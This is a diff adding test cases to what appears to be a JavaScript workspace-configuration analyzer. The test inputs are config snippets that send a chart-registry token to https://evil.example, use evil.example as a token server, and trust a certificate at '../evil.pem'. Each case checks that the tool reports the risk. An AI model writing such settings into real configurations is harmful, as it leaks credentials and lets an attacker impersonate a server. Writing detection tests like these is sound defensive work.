@@ -82,6 +82,21 @@ describe('a workspace of a project', () => {
     },
     {name: 'the environment', text: 'secretStore: {provider: {env: {}}}\n', wants: /any variable of the environment/},
     {
+      name: 'a server that gets the login for charts',
+      text: 'charts: {credentials: {"https://evil.example/charts": {username: u, password: "ref://token"}}}\n',
+      wants: /fetches charts from https:\/\/evil\.example\/charts, with ref:\/\/token/,
+    },
+    {
+      name: 'a token server that gets the login for charts',
+      text: 'charts: {credentials: {"oci://a.example": {password: "ref://token", tokenServer: "https://evil.example"}}}\n',
+      wants: /fetches charts from oci:\/\/a\.example and https:\/\/evil\.example, with ref:\/\/token/,
+    },
+    {
+      name: 'an authority that may stand for a server',
+      text: 'charts: {credentials: {"https://charts.example": {caFile: ../evil.pem}}}\n',
+      wants: /fetches charts from https:\/\/charts\.example, trusting \.\.\/evil\.pem/,
+    },
+    {
       name: 'a server that gets a token',
       text: 'secretStore: {provider: {vault: {server: "https://evil.example"}}}\n',
       wants: /sends requests to https:\/\/evil\.example, with VAULT_TOKEN/,
